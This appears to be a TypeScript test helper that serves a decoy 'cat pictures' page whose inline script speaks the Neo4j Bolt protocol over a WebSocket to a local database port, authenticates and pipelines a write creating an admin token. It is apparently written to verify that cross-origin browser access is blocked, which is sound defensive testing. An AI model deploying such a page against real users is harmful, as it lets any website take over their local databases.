/**
 * A hostile web page, as any site the user visits could serve it: it opens a WebSocket to the local Bolt
 * port, speaks the Bolt handshake, says HELLO with the scheme and credentials given, and sends a write
 * (an admin API token of its own) pipelined behind the HELLO. It reports every Bolt message it got back.
 * Served from its own port, so it is another origin than both the API and the database.
 */
import { createServer, type Server } from 'node:http';
import type { AddressInfo } from 'node:net';

export interface BoltAttempt {
  scheme: 'none' | 'basic';
  principal?: string;
  credentials?: string;
}

export interface BoltAttemptResult {
  scheme: string;
  /** The protocol version the server agreed to in the handshake (e.g. "5.0"), or null if none. */
  agreedVersion: string | null;
  /** Signatures of the messages received: SUCCESS, FAILURE, RECORD, IGNORED. */
  messages: { kind: string; code: string | null }[];
  error: string | null;
}

/** The page's script: plain JavaScript, a Bolt client of forty lines, as an attacker would inline it. */
function pageScript(boltPort: number, query: string, attempts: BoltAttempt[]): string {
  return `
const enc = new TextEncoder();
function str(s) { const b = enc.encode(s); return b.length < 16 ? [0x80 | b.length, ...b] : [0xd0, b.length, ...b]; }
function map(entries) { const out = [0xa0 | entries.length]; for (const [k, v] of entries) out.push(...str(k), ...v); return out; }
function chunk(message) { return [message.length >> 8, message.length & 0xff, ...message, 0, 0]; }
const KINDS = { 0x70: 'SUCCESS', 0x7f: 'FAILURE', 0x71: 'RECORD', 0x7e: 'IGNORED' };
function attempt(a) {
  return new Promise((resolve) => {
    const result = { scheme: a.scheme, agreedVersion: null, messages: [], error: null };
    let ws;
    try { ws = new WebSocket('ws://127.0.0.1:${boltPort}'); } catch (e) { result.error = String(e); return resolve(result); }
    ws.binaryType = 'arraybuffer';
    let buffer = [];
    let message = [];
    const done = () => { try { ws.close(); } catch {} resolve(result); };
    setTimeout(done, 8000);
    ws.onerror = () => { result.error = result.error ?? 'websocket error'; };
    ws.onclose = done;
    ws.onopen = () => ws.send(new Uint8Array([0x60, 0x60, 0xb0, 0x17, 0, 0, 0, 5, 0, 0, 4, 4, 0, 0, 0, 0, 0, 0, 0, 0]));
    ws.onmessage = (event) => {
      buffer.push(...new Uint8Array(event.data));
      if (result.agreedVersion === null) {
        if (buffer.length < 4) return;
        const v = buffer.splice(0, 4);
        result.agreedVersion = v[3] === 0 ? null : v[3] + '.' + v[2];
        if (result.agreedVersion === null) return done();
        const auth = [['user_agent', str('attacker/1.0')], ['scheme', str(a.scheme)]];
        if (a.principal !== undefined) auth.push(['principal', str(a.principal)], ['credentials', str(a.credentials ?? '')]);
        const hello = [0xb1, 0x01, ...map(auth)];
        const q = str(${JSON.stringify(query)});
        const run = [0xb3, 0x10, ...q, 0xa0, 0xa0];
        const pull = [0xb1, 0x3f, ...map([['n', [0xff]]])];
        ws.send(new Uint8Array([...chunk(hello), ...chunk(run), ...chunk(pull)]));
      }
      while (buffer.length >= 2) {
        const size = (buffer[0] << 8) | buffer[1];
        if (buffer.length < 2 + size) break;
        const part = buffer.splice(0, 2 + size).slice(2);
        if (size > 0) { message.push(...part); continue; }
        if (message.length === 0) continue;
        const text = new TextDecoder().decode(new Uint8Array(message));
        const code = /Neo\\.[A-Za-z]+Error\\.[A-Za-z.]+/.exec(text);
        result.messages.push({ kind: KINDS[message[1]] ?? 'other', code: code ? code[0] : null });
        message = [];
      }
    };
  });
}
(async () => {
  const results = [];
  for (const a of ${JSON.stringify(attempts)}) results.push(await attempt(a));
  window.__boltAttack = results;
})();
`;
}

export async function serveAttackPage(
  boltPort: number,
  query: string,
  attempts: BoltAttempt[],
): Promise<{ url: string; close(): Promise<void> }> {
  const html = `<!doctype html><title>cat pictures</title><h1>Nothing to see here</h1><script>${pageScript(boltPort, query, attempts)}</script>`;
  const server: Server = createServer((_request, response) => {
    response.writeHead(200, { 'content-type': 'text/html; charset=utf-8' });
    response.end(html);
  });
  await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
  const { port } = server.address() as AddressInfo;
  // "localhost" rather than 127.0.0.1: a different site from the database's address as well.
  return { url: `http://localhost:${port}/`, close: () => new Promise((resolve) => server.close(() => resolve())) };
}
